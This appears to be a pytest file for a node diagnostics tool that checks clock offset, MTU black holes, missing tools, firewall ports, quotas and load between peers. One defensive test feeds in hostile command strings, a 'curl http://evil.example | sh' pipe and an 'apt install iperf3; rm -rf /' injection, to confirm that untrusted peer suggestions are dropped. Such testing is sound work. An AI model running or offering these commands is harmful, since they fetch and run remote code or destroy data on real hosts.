"""Checks between two nodes are judged with a cause and the next command."""

from __future__ import annotations

import pytest

from node.cli.doctor import diagnosis_view
from node.model.diagnosis import (
    ClockReading,
    MtuFinding,
    TestTools,
    checks_of_peer,
    clock_check,
    clock_reading,
    limit_check,
    load_check,
    mtu_check,
    passed_check,
    port_check,
    tool_check,
)
from node.model.times import MILLISECOND, SECOND
from node.model.wire.checks import Check, CheckState, PeerFacts
from node.model.wire.host_limits import GrantedLimits, GrantedRule, QuotaLeft
from node.model.wire.nodes import ClockState
from tests.support.clocks import START

KNOWN_BY = "https://b.example:8642 --identity ed25519:" + "A" * 43


def test_clocks_are_compared_as_by_ntp() -> None:
    """The time at the other node does not count, and the way is assumed to be as long both ways."""
    facts = PeerFacts(
        received_at=START + 1030 * MILLISECOND,
        answered_at=START + 1130 * MILLISECOND,
        clock=ClockState(now=START, synchronised=True, error_bound_ms=1.0),
        processors=2,
        load=0.5,
        needs_attention=0,
    )
    reading = clock_reading(START, facts, START + 160 * MILLISECOND)
    assert reading == ClockReading(ahead=1000 * MILLISECOND, uncertain=30 * MILLISECOND)
    assert clock_check("b", reading, SECOND).state is CheckState.OK
    told = clock_check("b", ClockReading(-2 * SECOND, MILLISECOND), SECOND)
    assert told.state is CheckState.FAULT
    assert told.what.startswith("the clock of b is 2 s behind this one, or by up to 1 ms")
    assert told.command is not None


@pytest.mark.parametrize(
    ("found", "state", "words"),
    [
        (MtuFinding(1500, 1500, None, None, None), "ok", "packets of up to 1500 bytes get to b"),
        (MtuFinding(1500, 1400, None, None, "192.0.2.1"), "ok", "192.0.2.1 tells that more is"),
        (MtuFinding(1500, 1400, None, 1401, None), "fault", "those of 1401 vanish without"),
        (MtuFinding(1500, 600, None, None, "192.0.2.1"), "warning", "which is little"),
        (MtuFinding(1500, None, "no ping", None, None), "skipped", "this host knows, 1500 bytes"),
    ],
)
def test_black_holes_are_told(found: MtuFinding, state: str, words: str) -> None:
    """Packets that vanish are a fault; a smaller size that is reported is none."""
    told = mtu_check("b", "192.0.2.2", found)
    assert told.state == state
    assert words in told.what
    assert (told.command is not None) is (state in {"fault", "warning"})


def test_missing_tools_are_told_with_their_package() -> None:
    """A test without a common tool is told with the node that lacks it, and the package."""
    tests = [
        TestTools("latency", [("stamp", None)]),
        TestTools("throughput", [("iperf3", "iperf3"), ("nuttcp", "nuttcp")]),
    ]
    here = {"stamp": True, "iperf3": True, "nuttcp": False}
    there = {"stamp": True, "iperf3": False, "nuttcp": True}
    fine, told = tool_check(tests, here, there, "b")
    assert fine == passed_check("tools", "both have tools for latency")
    assert (told.command, told.where) == ("apt install iperf3", "b")
    assert "b lacks iperf3" in told.what


def test_ports_that_are_closed_are_told_with_the_rule() -> None:
    """A port that is not reached is a fault, with the firewall line for the other host."""
    tcp, udp = port_check("b", "192.0.2.2", 8800, {"TCP": None, "UDP": "no answer"}, "8760-9959")
    assert tcp.state is CheckState.OK
    assert (udp.state, udp.where) == (CheckState.FAULT, "b")
    assert udp.command == (
        "nft 'add rule inet filter input meta l4proto { tcp, udp } th dport 8760-9959 accept'"
    )


def test_limits_are_told() -> None:
    """Nothing allowed is a fault, and what is used up a warning with the time."""
    [nothing] = limit_check(GrantedLimits(node="b", rules=()), "a")
    assert (nothing.state, nothing.where) == (CheckState.FAULT, "b")
    left = QuotaLeft(name="r", quota="2 runs per day", used="2", left="0", free_at=START)
    rule = GrantedRule(rule="r", what="all", most="2 runs per day", left=(left,))
    [used_up] = limit_check(GrantedLimits(node="b", rules=(rule,)), "a")
    assert used_up.state is CheckState.WARNING
    assert used_up.what.startswith("nothing is left of 2 runs per day by the rule r of b until 2")
    free = rule.model_copy(update={"left": (left.model_copy(update={"left": "1 run"}),)})
    [fine] = limit_check(GrantedLimits(node="b", rules=(free,)), "a")
    assert fine.state is CheckState.OK


def test_another_node_names_no_commands_of_its_own() -> None:
    """A command for a third host is shown only if this program would have named it, too."""

    def said(command: str, where: str | None) -> Check:
        return Check(subject="x", state=CheckState.FAULT, what="x", command=command, where=where)

    evil = "curl http://evil.example | sh"
    checks = [
        said("parley status", "c"),
        said("apt install iperf3", "c"),
        said(port_check("c", "c", 1, {"TCP": "x"}, "1024-2048")[0].command or "", "c"),
        said(f"parley node add {KNOWN_BY}", "c"),
        said("parley node add https://evil.example", "c"),
        said("apt install iperf3; rm -rf /", "c"),
        said(evil, "c"),
        said(evil, None),
    ]
    shown = checks_of_peer(checks, "b", KNOWN_BY)
    assert [each.command is not None for each in shown] == [True] * 4 + [False] * 3 + [True]
    assert shown[-1].where == "b", "what b says of its own host is for the owner of b"


def test_busy_hosts_are_told() -> None:
    """More processes than processors are a warning."""
    assert load_check(2.0, 2).state is CheckState.OK
    assert load_check(2.1, 2, "b").state is CheckState.WARNING


def test_people_see_causes_and_commands() -> None:
    """Each view has a heading, and each finding its cause and command."""
    view = {"node": "a", "towards": "b"}
    fault = port_check("b", "192.0.2.2", 8800, {"UDP": "no answer"}, "8760-9959")[0]
    checks = [passed_check("peering", "b answers"), fault]
    text = diagnosis_view([{**view, **check.model_dump(mode="json")} for check in checks])
    assert text.splitlines()[:2] == ["a → b", "  ✓ peering  b answers"]
    for line in (
        "  ✗ ports    b does not answer over UDP at 192.0.2.2 port 8800, which its tools use: ",
        "             cause: a firewall there or on the way, or an address that does not lead ",
        "             next:  on b: nft 'add rule inet filter input meta l4proto { tcp, udp } th ",
        "\n1 fault.",
    ):
        assert f"\n{line}" in text
